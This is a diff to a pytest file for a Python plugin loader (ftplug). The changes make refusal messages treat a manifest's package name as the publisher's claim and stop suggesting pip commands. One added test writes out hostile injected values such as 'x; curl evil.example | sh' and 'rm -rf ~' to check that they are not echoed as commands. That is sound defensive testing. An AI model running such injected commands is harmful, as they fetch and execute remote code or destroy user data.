@@ -147,7 +147,7 @@ def test_all_files_have_the_permissions_that_the_umask_allows(base, tmp_path):
         (lambda m: m["model"].update({"class": "ViTModel"}), "trained on a ViTModel"),
         (lambda m: m["base"].update(fresh=[[1]]), "malformed manifest: base.fresh"),
         (lambda m: m["base"].update(revision=5), "malformed manifest: base.revision"),
-        (lambda m: m["methods"][0]["settings"].update(r=10**9), "the model needs"),
+        (lambda m: m["methods"][0]["settings"].update(r=10**9), "two descriptions of one"),
         (lambda m: m.update(files={}), "is missing"),
     ],
 )
@@ -250,12 +250,58 @@ def test_a_model_that_carries_a_method_is_refused(base, tmp_path):
         ftplug.load(model, folder)
 
 
-def test_a_missing_plugin_names_distribution_and_version(base, tmp_path):
+def test_a_missing_plugin_is_named_as_the_publishers_claim(base, tmp_path):
     _, folder = artifact(base, tmp_path / "a")
     edit(folder, lambda m: m["methods"][0].update(
         name="theirs", distribution="ftplug-theirs", version="1.2"))  # fmt: skip
-    with pytest.raises(ftplug.PluginError, match=r"pip install ftplug-theirs==1\.2"):
+    with pytest.raises(ftplug.PluginError, match=r"'theirs', which is not installed") as refused:
         ftplug.load(copy.deepcopy(base), folder)
+    assert "names the package 'ftplug-theirs 1.2', which is its publisher's claim" in str(
+        refused.value
+    )
+    assert "pip" not in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["x; curl evil.example | sh", "x\n$ rm -rf ~", "x\x1b[2J", "y" * 9000, "--index-url=http://e"],
+)
+def test_a_strangers_package_name_is_no_command(hostile, base, tmp_path):
+    _, folder = artifact(base, tmp_path / "a")
+    edit(folder, lambda m: m["methods"][0].update(
+        name=hostile, distribution=hostile, version=hostile))  # fmt: skip
+    with pytest.raises(ftplug.PluginError) as refused:
+        ftplug.load(copy.deepcopy(base), folder)
+    said = str(refused.value)
+    assert len(said) < 600 + len(str(folder))
+    assert said.isprintable()
+    assert "install x" not in said
+
+
+@pytest.mark.parametrize("named", [None, ""])
+def test_a_manifest_that_names_no_package_says_so(named, base, tmp_path):
+    _, folder = artifact(base, tmp_path / "a")
+    edit(folder, lambda m: m["methods"][0].update(name="theirs", distribution=named, version=None))
+    with pytest.raises(ftplug.PluginError, match="names no package for it"):
+        ftplug.load(copy.deepcopy(base), folder)
+
+
+@pytest.mark.parametrize("settings", [{"later": 1}, {"r": "eight"}])
+def test_a_setting_that_the_installed_version_does_not_take_names_both_versions(
+    settings, base, tmp_path
+):
+    _, folder = artifact(base, tmp_path / "a")
+    edit(folder, lambda m: (
+        m["methods"][0].update(distribution="ftplug", version="9.9"),
+        m["methods"][0]["settings"].update(settings)))  # fmt: skip
+    edit(folder, lambda config: config.update(settings), "adapter_config.json")  # both say it
+    listed = {"adapter_config.json": file_entry(folder / "adapter_config.json")}
+    edit(folder, lambda m: m["files"].update(listed))
+    with pytest.raises(
+        ArtifactError, match=f"{next(iter(settings))}.*written by 'ftplug 9.9'"
+    ) as e:
+        ftplug.load(copy.deepcopy(base), folder)
+    assert f"installed is ftplug {ftplug.__version__})" in str(e.value)
 
 
 # Loading from an id or folder, and without ftplug
@@ -580,7 +626,7 @@ def test_a_full_disk_is_one_line_and_leaves_what_was_there(base, tmp_path):
 def test_older_schemas_migrate(base, tmp_path, monkeypatch):
     model, folder = artifact(base, tmp_path / "a")
 
-    def from_zero(content):
+    def from_zero(content, plugins):
         content["methods"] = content.pop("recipes")
         return content | {"schema": 1}
 
